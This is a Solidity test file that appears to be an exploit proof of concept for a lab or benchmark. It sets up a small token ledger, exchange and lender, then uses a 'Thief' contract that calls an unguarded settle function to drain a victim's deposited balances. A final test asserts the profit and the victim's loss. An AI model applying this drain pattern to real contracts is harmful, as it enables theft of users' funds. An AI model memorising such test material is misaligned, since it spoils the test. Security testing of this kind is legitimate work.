// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Bourse} from "../missing-access/src/Bourse.sol";
import {Counter} from "../missing-access/src/Counter.sol";
import {Ledger} from "../missing-access/src/Ledger.sol";
import {FlashLender, Token} from "../missing-access/src/Imports.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief {
    function attack(Ledger ledger, Counter counter, address token, address victim) external {
        uint256 amount = ledger.owned(token, victim);
        ledger.settle(token, victim, address(this), amount);
        counter.withdraw(token, amount);
    }
}

contract MissingAccessTest {
    event Profit(uint256 cash);
    event Harm(uint256 cash);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private house = address(uint160(uint256(keccak256("heist actor house"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    Token private wheat;
    Token private cash;
    Ledger private ledger;
    Counter private counter;
    Bourse private bourse;
    FlashLender private lender;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        wheat = new Token("Wheat", "WHT");
        vm.prank(admin);
        cash = new Token("Cash", "CASH");
        vm.prank(admin);
        ledger = new Ledger();
        vm.prank(admin);
        counter = new Counter(ledger);
        vm.prank(admin);
        bourse = new Bourse(ledger, house);
        vm.prank(admin);
        lender = new FlashLender(8);
        vm.prank(admin);
        ledger.setOperator(address(counter), true);
        vm.prank(admin);
        ledger.setOperator(address(bourse), true);
        vm.prank(admin);
        counter.accept(address(wheat));
        vm.prank(admin);
        counter.accept(address(cash));
        vm.prank(admin);
        wheat.mint(alice, 500000 ether);
        vm.prank(admin);
        cash.mint(bob, 1500000 ether);
        vm.prank(admin);
        wheat.mint(carol, 120000 ether);
        vm.prank(admin);
        cash.mint(carol, 700000 ether);
        vm.prank(admin);
        cash.mint(alice, 30000 ether);
        vm.prank(admin);
        cash.mint(attacker, 12000 ether);
        vm.prank(admin);
        wheat.mint(attacker, 1000 ether);
        vm.prank(admin);
        cash.mint(address(lender), 800000 ether);
        vm.prank(alice);
        wheat.approve(address(counter), 1e60);
        vm.prank(bob);
        wheat.approve(address(counter), 1e60);
        vm.prank(carol);
        wheat.approve(address(counter), 1e60);
        vm.prank(attacker);
        wheat.approve(address(counter), 1e60);
        vm.prank(alice);
        cash.approve(address(counter), 1e60);
        vm.prank(bob);
        cash.approve(address(counter), 1e60);
        vm.prank(carol);
        cash.approve(address(counter), 1e60);
        vm.prank(attacker);
        cash.approve(address(counter), 1e60);
        vm.prank(alice);
        counter.deposit(address(wheat), 450000 ether);
        vm.prank(bob);
        counter.deposit(address(cash), 1400000 ether);
        vm.prank(carol);
        counter.deposit(address(wheat), 100000 ether);
        vm.prank(carol);
        counter.deposit(address(cash), 600000 ether);
        vm.prank(alice);
        counter.deposit(address(cash), 20000 ether);
        vm.prank(alice);
        bourse.post(address(wheat), address(cash), 200000 ether, 804000 ether);
        vm.prank(bob);
        bourse.post(address(cash), address(wheat), 398000 ether, 100000 ether);
        vm.prank(carol);
        bourse.fill(0, 25000 ether);
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief();
        uint256 before = ledger.owned(address(cash), bob);
        thief.attack(ledger, counter, address(cash), bob);
        thief.attack(ledger, counter, address(wheat), address(bourse));
        uint256 profit = cash.balanceOf(address(thief)) + 4 * wheat.balanceOf(address(thief));
        emit Profit(profit);
        emit Harm(before - ledger.owned(address(cash), bob));
        require(profit > 1_700_000 ether, "no profit");
        require(ledger.owned(address(cash), bob) == 0, "no harm");
    }
}
